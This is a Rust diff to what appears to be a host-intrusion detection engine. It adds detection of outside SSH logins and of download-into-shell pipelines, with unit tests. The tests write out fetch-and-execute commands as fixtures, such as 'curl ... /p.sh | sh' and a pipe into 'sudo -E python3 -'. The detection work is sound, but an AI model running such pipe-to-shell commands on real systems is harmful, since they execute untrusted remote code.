@@ -51,6 +51,7 @@ pub const SERVICES: &[&str] = &[
 /// Ways a person logs in or attaches to a terminal.
 pub const LOGIN_ENTRIES: &[&str] = &[
     "sshd",
+    "sshd-session",
     "login",
     "agetty",
     "getty",
@@ -1243,6 +1244,23 @@ pub fn is_local(ip: &IpAddr) -> bool {
     }
 }
 
+/// The client's address when the event is a login daemon (`sshd`, `login`...; see
+/// [`LOGIN_ENTRIES`]) accepting a connection from outside the site (see [`is_inside`]).
+pub fn login_from_outside(ev: &FlatEvent) -> Option<String> {
+    let ty = text(ev, "evt.type")?;
+    if !matches!(ty.as_str(), "accept" | "accept4") {
+        return None;
+    }
+    if role(&text(ev, "proc.name")?) != Role::Login {
+        return None;
+    }
+    let ip: IpAddr = match ev.get("fd.cip") {
+        Some(quell_rules::Value::Ip(ip)) => *ip,
+        _ => text(ev, "fd.cip")?.parse().ok()?,
+    };
+    (!is_inside(&ip)).then(|| ip.to_string())
+}
+
 /// Whether an address is inside the host or its private networks (loopback, link-local,
 /// RFC 1918, shared address space 100.64/10, IPv6 unique-local): a cluster's or a site's
 /// own servers, as opposed to a public destination.
@@ -1306,6 +1324,39 @@ fn is_loopback_host(h: &str) -> bool {
     h == "localhost"
         || h.ends_with(".localhost")
         || h.parse::<IpAddr>().is_ok_and(|ip| ip.is_loopback())
+}
+
+/// Whether the shell command line `cmdline` pipes the output of the program `prog` into a
+/// shell or an interpreter (`sh -c 'curl -fsS URL | sh'`, `bash -c "wget -qO- URL | sudo
+/// python3"`): some stage of a pipeline runs `prog`, and the next stage's program (after
+/// `sudo`, `env` and their options or assignments) is a shell or an interpreter. `||` is
+/// not a pipe.
+pub fn pipes_into_shell(cmdline: &str, prog: &str) -> bool {
+    let program = |stage: &str| -> Option<String> {
+        stage
+            .split_whitespace()
+            .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == '`'))
+            .filter(|w| !w.is_empty() && !w.starts_with('-') && !w.contains('='))
+            .map(|w| w.rsplit('/').next().unwrap_or(w))
+            .find(|w| !matches!(*w, "sudo" | "env" | "exec" | "nohup" | "command"))
+            .map(str::to_string)
+    };
+    let runs_prog = |stage: &str| {
+        stage.split_whitespace().any(|w| {
+            let w = w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == '`');
+            w.rsplit('/').next() == Some(prog)
+        })
+    };
+    // `a || b` splits into separate commands, never a pipe: only stages joined by a single
+    // `|` inside one `||`-separated part follow each other.
+    cmdline.split("||").any(|part| {
+        let stages: Vec<&str> = part.split('|').collect();
+        stages.windows(2).any(|w| {
+            runs_prog(w[0])
+                && program(w[1])
+                    .is_some_and(|p| matches!(role(&p), Role::Shell | Role::Interpreter))
+        })
+    })
 }
 
 /// What a fetch tool's command line does: `Some(true)` when it writes a file, `Some(false)`
@@ -1522,8 +1573,16 @@ fn activity_of(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<
                 _ => {
                     let hosts = url_hosts(&cmd);
                     let local_only = !hosts.is_empty() && hosts.iter().all(|h| is_loopback_host(h));
+                    // The body piped into a shell or an interpreter by the parent's command
+                    // line (`sh -c 'curl -s URL | sh'`): a download run as a program, even
+                    // when the reading shell's own start was not captured.
+                    let run_by_parent =
+                        text(ev, "proc.pcmdline").is_some_and(|p| pipes_into_shell(&p, &name));
                     match fetch_writes(&name, &cmd) {
                         Some(true) if !hosts.is_empty() || name == "tftp" || name == "ftp" => {
+                            return Some(Activity::Download(name, cmd))
+                        }
+                        Some(false) if !hosts.is_empty() && !local_only && run_by_parent => {
                             return Some(Activity::Download(name, cmd))
                         }
                         Some(false) if !hosts.is_empty() && !local_only => {
@@ -2489,6 +2548,46 @@ mod tests {
     fn exec(name: &str, cmd: &str) -> Option<Activity> {
         let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":name,"proc.cmdline":cmd});
         activity(&ev(&j.to_string()), &|_| false)
+    }
+
+    #[test]
+    fn a_fetch_its_parent_pipes_into_a_shell_is_a_download() {
+        let under = |parent: &str, cmd: &str| {
+            let j = serde_json::json!({"evt.type":"execve","evt.rawres":0,"proc.name":"curl",
+                "proc.cmdline":cmd,"proc.pname":"sh","proc.pcmdline":parent});
+            activity(&ev(&j.to_string()), &|_| false)
+        };
+        let dl = |a: Option<Activity>| matches!(a, Some(Activity::Download(..)));
+        let fetch = "curl -fsS http://203.0.113.45/p.sh";
+        for parent in [
+            "sh -c curl -fsS http://203.0.113.45/p.sh | sh",
+            "bash -c curl -fsS http://203.0.113.45/p.sh|bash -s",
+            "sh -c curl -fsS http://203.0.113.45/p.sh | sudo -E python3 -",
+            "sh -c curl -fsS http://203.0.113.45/p.sh | /usr/bin/env bash",
+        ] {
+            assert!(dl(under(parent, fetch)), "{parent}");
+        }
+        // Piped into a filter, not a shell; `||` is not a pipe; a shell piping something
+        // else into a shell; the fetch to a loopback health endpoint.
+        for parent in [
+            "sh -c curl -fsS http://203.0.113.45/p.sh | grep -c ok",
+            "sh -c curl -fsS http://203.0.113.45/p.sh || sh /opt/fallback.sh",
+            "sh -c cat /etc/motd | sh",
+        ] {
+            assert!(!dl(under(parent, fetch)), "{parent}");
+        }
+        assert!(!dl(under(
+            "sh -c curl -fsS http://localhost:8080/healthz | sh",
+            "curl -fsS http://localhost:8080/healthz"
+        )));
+        assert!(pipes_into_shell(
+            "sh -c wget -qO- http://x/y | perl",
+            "wget"
+        ));
+        assert!(!pipes_into_shell(
+            "sh -c wget -qO- http://x/y | perl",
+            "curl"
+        ));
     }
 
     #[test]
